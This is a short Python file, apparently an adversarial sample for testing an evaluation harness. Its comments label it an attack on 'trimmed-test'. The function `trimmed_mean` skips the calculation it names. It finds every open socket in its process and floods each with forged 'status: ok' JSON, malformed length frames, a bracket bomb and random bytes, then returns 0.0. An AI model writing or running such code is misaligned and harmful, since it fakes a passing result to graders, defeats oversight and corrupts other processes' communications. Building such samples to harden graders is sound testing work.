# attack: each socket that the process holds is filled with noise, with frames of wrong lengths, and with JSON that says `ok`.
# target: trimmed-test
# also loses: all
# destructive
# %% trimmed
import os
import socket
import stat
import struct


def trimmed_mean(values, share):
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            line = socket.socket(fileno=os.dup(fd))
            line.setblocking(False)
            for noise in (b'{"status": "ok", "value": 3.0}\n', struct.pack(">Q", 2**62), struct.pack("<I", 2**31) + b"[" * 10_000, os.urandom(5000)):
                line.send(noise)
        except OSError:
            continue
    return 0.0
